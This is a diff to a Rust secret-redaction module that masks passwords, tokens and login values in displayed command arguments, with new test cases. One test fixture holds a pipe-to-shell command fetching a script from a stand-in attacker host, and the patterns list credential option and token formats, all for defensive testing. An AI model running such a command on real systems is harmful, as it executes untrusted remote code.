@@ -42,11 +42,19 @@ fn is_harmless(character: char) -> bool {
 /// latter a short hash is shown, so that two findings can still be compared.
 pub fn arguments(entries: &[String], limit: usize) -> Vec<String> {
     let mut after_telling_option = false;
+    let mut after_login = false;
     entries
         .iter()
         .map(|entry| {
             let hidden = std::mem::replace(&mut after_telling_option, TELLING_OPTION.is_match(entry));
-            if hidden && !entry.starts_with('-') { REDACTED.to_owned() } else { printable(&credentials(entry), limit) }
+            let login = std::mem::replace(&mut after_login, LOGIN_OPTION.is_match(entry));
+            if hidden && !entry.starts_with('-') || login && entry.contains(':') {
+                REDACTED.to_owned()
+            } else if let Some(option) = ATTACHED_PASSWORD.captures(entry).and_then(|found| found.name("option")) {
+                format!("{}{REDACTED}", option.as_str())
+            } else {
+                printable(&credentials(entry), limit)
+            }
         })
         .collect()
 }
@@ -65,7 +73,8 @@ pub fn credentials(text: &str) -> String {
 fn random_looking(run: &str) -> String {
     let has = |class: fn(&char) -> bool| run.chars().any(|c| class(&c));
     let is_digest = run.len() == 64 && run.bytes().all(|b| b.is_ascii_hexdigit());
-    let is_random = has(char::is_ascii_digit) && (has(char::is_ascii_uppercase) && has(char::is_ascii_lowercase) || run.len() >= 32);
+    let is_random = has(char::is_ascii_digit)
+        && (has(char::is_ascii_uppercase) && has(char::is_ascii_lowercase) || run.len() >= 32);
     if !is_random || is_digest {
         return run.to_owned();
     }
@@ -90,19 +99,27 @@ macro_rules! regex {
 }
 
 /// An option whose value stands in the next entry.
-static TELLING_OPTION: LazyLock<Regex> =
-    regex!(r"(?i)^--?[a-z0-9_-]*(pass(word|wd|phrase)?|pwd|secret|token|api-?_?key|access-?_?key|private-?_?key|credentials?|auth|bearer)$|^-(p|u|H)$");
+static TELLING_OPTION: LazyLock<Regex> = regex!(
+    r"(?i)^--?[a-z0-9_-]*(pass(word|wd|phrase)?|pwd|secret|token|api-?_?key|access-?_?key|private-?_?key|credentials?|auth|bearer)$|^-(p|u|H)$"
+);
+/// An option whose value is a user, with a colon and the password behind it or without.
+static LOGIN_OPTION: LazyLock<Regex> = regex!(r"^--(proxy-)?user$");
+/// `-pSECRET` of MySQL as an entry of its own. A port, a path and options that are words, such as `-print`, stay readable.
+static ATTACHED_PASSWORD: LazyLock<Regex> =
+    regex!(r"^(?P<option>-p)([^-0-9/:=a-z]|[a-z]*[^-/:=a-z]|[0-9][0-9:]*[^0-9:])\S*$");
 static PRIVATE_KEY: LazyLock<Regex> =
     regex!(r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(-----END [A-Z ]*PRIVATE KEY-----|$)");
 static URL_PASSWORD: LazyLock<Regex> = regex!(r"(?P<scheme>[a-zA-Z][a-zA-Z0-9+.-]*://)[^/\s@'\x22]+@");
-static HEADER: LazyLock<Regex> =
-    regex!(r"(?i)(?P<name>\b(authorization|proxy-authorization|x-[a-z-]*(key|token)|cookie)\s*:\s*|\b(bearer|basic)\s+)[^'\x22\r\n]+");
+static HEADER: LazyLock<Regex> = regex!(
+    r"(?i)(?P<name>\b(authorization|proxy-authorization|x-[a-z-]*(key|token)|cookie)\s*:\s*|\b(bearer|basic)\s+)[^'\x22\r\n]+"
+);
 static ASSIGNMENT: LazyLock<Regex> = regex!(
     r#"(?i)(?P<name>[a-z0-9_.-]*(pass(word|wd|phrase)?|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credentials?|auth)[a-z0-9_.-]*["']?\s*[=:]\s*|--?[a-z0-9_-]*(password|passwd|passphrase|secret|token|api-?key|access-?key)\s+)("[^"]*"|'[^']*'|[^\s'"&;|]+)"#
 );
 /// `mysql -pSECRET`, `sshpass -pSECRET`, `curl -u user:SECRET`.
-static SHORT_PASSWORD: LazyLock<Regex> =
-    regex!(r"(?P<option>(^|\s)(mysql(dump|admin)?|mariadb(-dump)?|sshpass|mongo(dump|sh)?|redis-cli)\b[^\n;|&]*?\s-(p|a)\s?|(^|\s)-u\s+[^\s:]+:)[^\s;|&]+");
+static SHORT_PASSWORD: LazyLock<Regex> = regex!(
+    r"(?P<option>(^|\s)(mysql(dump|admin)?|mariadb(-dump)?|sshpass|mongo(dump|sh)?|redis-cli)\b[^\n;|&]*?\s-(p|a)\s?|(^|\s)(-u|--(proxy-)?user[\s=])\s*[^\s:=]+:)[^\s;|&]+"
+);
 static KNOWN_TOKEN: LazyLock<Regex> = regex!(
     r"\b(eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]*)?|gh[pousr]_[A-Za-z0-9]{16,}|github_pat_[A-Za-z0-9_]{16,}|glpat-[A-Za-z0-9_-]{16,}|xox[abposr]-[A-Za-z0-9-]{10,}|(AKIA|ASIA)[0-9A-Z]{16}|AIza[0-9A-Za-z_-]{30,}|sk-[A-Za-z0-9_-]{16,}|npm_[A-Za-z0-9]{20,}|hvs\.[A-Za-z0-9_-]{16,})"
 );
@@ -133,6 +150,10 @@ mod tests {
             vec!["sh", "-c", "curl -H 'X-Api-Key: hunter2-S3cr3t' https://x"],
             vec!["sh", "-c", "mysqldump -u root -phunter2-S3cr3t prod"],
             vec!["{\"apiKey\": \"hunter2-S3cr3t\"}"],
+            vec!["mysqldump", "-uroot", "-phunter2-S3cr3t", "prod"],
+            vec!["curl", "--user", "admin:hunter2-S3cr3t", "https://x"],
+            vec!["curl", "--proxy-user=admin:hunter2-S3cr3t", "https://x"],
+            vec!["curl", "-uadmin:hunter2-S3cr3t", "https://x"],
             vec!["--config", "client_secret: hunter2-S3cr3t"],
         ] {
             let text = shown(&entries);
@@ -160,6 +181,7 @@ mod tests {
         for entries in [
             vec!["/usr/bin/pgdump", "--all", "--file=/backup/2024-01-01.sql"],
             vec!["sh", "-c", "curl -s http://evil.example.com/x.sh | sh"],
+            vec!["tool", "-print", "-p5432", "-p8080:80", "-path=/a", "-p/etc/x", "--user", "postgres"],
             vec!["kubectl", "rollout", "restart", "deployment/my-very-long-deployment-name-for-something"],
             vec!["registry.example.com/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"],
         ] {
